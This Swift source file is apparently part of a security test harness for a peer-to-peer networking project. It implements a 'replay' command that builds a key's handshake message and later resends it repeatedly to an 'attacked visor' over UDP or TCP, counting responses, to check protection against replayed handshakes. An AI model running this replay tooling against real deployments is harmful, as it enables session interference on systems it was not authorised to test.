import ArgumentParser
import SkywireConfig
import SkywireCrypto
import SkywireWire
#if canImport(Glibc)
import Glibc
#endif

/// `replay`: the replayed handshake of issue 16. `replay make` builds key K's message 1 to a visor
/// now (time T0) with K's secret from K's config file, as a capture of K's first packet would
/// hold it, and saves its bytes; `replay send` resends those bytes later, after K's live session
/// exists: sudph Initiations from any address, or stcpr message-1 records on fresh TCP
/// connections that it keeps open (`--hold`) so that anything they created stays visible.
struct Replay: ParsableCommand {
    static let configuration = CommandConfiguration(
        commandName: "replay",
        abstract: "Build key K's handshake message 1 now and resend it later (a replayed handshake).",
        subcommands: [Make.self, Send.self])

    typealias Transport = HostileHandshake.Transport
    typealias Wire = HostileHandshake.Wire

    struct Make: ParsableCommand {
        static let configuration = CommandConfiguration(abstract: "Build K's message 1 to --remote-pk and save it.")
        @Option(help: "K's visor config file (its secret key signs nothing; it only builds message 1).")
        var config: String
        @Option(help: "The attacked visor's public key (64 hex).")
        var remotePk: String
        @Option(help: "sudph (a whole Initiation packet) or stcpr (one length-prefixed record).")
        var transport: Transport
        @Option(help: "v2 (current) or v1 (before replay protection).")
        var wire: Wire = .v2
        @Option(help: "Where to write the bytes.")
        var out: String

        func run() throws {
            let keys = try VisorConfig.load(path: config).keyPair
            let remote = try PublicKey(hex: remotePk)
            let bytes = try HostileHandshake.message1(from: keys, to: remote, transport: transport, wire: wire)
            guard let file = fopen(out, "wb") else { throw HostileSocket.Failure(description: "cannot write \(out)") }
            defer { fclose(file) }
            guard fwrite(bytes, 1, bytes.count, file) == bytes.count else { throw HostileSocket.Failure(description: "short write to \(out)") }
            print("{\"bytes\":\(bytes.count),\"transport\":\"\(transport.rawValue)\",\"wire\":\"\(wire.rawValue)\"}")
        }
    }

    struct Send: ParsableCommand {
        static let configuration = CommandConfiguration(abstract: "Resend saved message-1 bytes COUNT times.")
        @Option(help: "The bytes `replay make` saved.")
        var file: String
        @Option(help: "The attacked visor's HOST:PORT (an IP literal).")
        var target: String
        @Option(help: "sudph or stcpr (as made).")
        var transport: Transport
        @Option(help: "How many times (at most 1000).")
        var count: Int = 20
        @Option(help: "Seconds between two sends (at most 5).")
        var interval: Double = 0.05
        @Option(help: "stcpr: seconds to keep the connections open after the last send (at most 60).")
        var hold: Double = 3

        static let maxCount = 1000
        static let maxIntervalSeconds = 5.0
        static let maxHoldSeconds = 60.0
        static let message2RecordLength = 2 + IdentityClaim.message2Length

        func run() throws {
            guard let handle = fopen(file, "rb") else { throw HostileSocket.Failure(description: "cannot read \(file)") }
            var bytes = [UInt8](repeating: 0, count: 4096)
            let n = fread(&bytes, 1, bytes.count, handle)
            fclose(handle)
            bytes = Array(bytes[0..<n])
            let to = try HostileSocket.address(target)
            let times = max(0, min(count, Self.maxCount))
            let interval = min(max(self.interval, 0), Self.maxIntervalSeconds)
            var answered = 0
            switch transport {
            case .sudph:
                let fd = try HostileSocket.udp(for: to)
                defer { HostileSocket.close(fd) }
                for _ in 0..<times {
                    HostileSocket.send(fd, bytes, to: to)
                    HostileSocket.sleep(seconds: interval)
                }
                HostileSocket.sleep(seconds: 0.5)
                answered = HostileSocket.drain(fd).filter { $0 == SudphLayout.responsePacketSize }.count
            case .stcpr:
                var sockets: [Int32] = []
                defer { sockets.forEach(HostileSocket.close) }
                for _ in 0..<times {
                    let fd = try HostileSocket.tcp(to: to, timeoutSeconds: 2)
                    sockets.append(fd)
                    _ = bytes.withUnsafeBytes { Glibc.send(fd, $0.baseAddress, $0.count, Int32(MSG_NOSIGNAL)) }
                    if HostileSocket.read(fd, count: Self.message2RecordLength).count == Self.message2RecordLength { answered += 1 }
                    HostileSocket.sleep(seconds: interval)
                }
                HostileSocket.sleep(seconds: min(max(hold, 0), Self.maxHoldSeconds))
            }
            print("{\"sent\":\(times),\"answered\":\(answered),\"transport\":\"\(transport.rawValue)\"}")
        }
    }
}
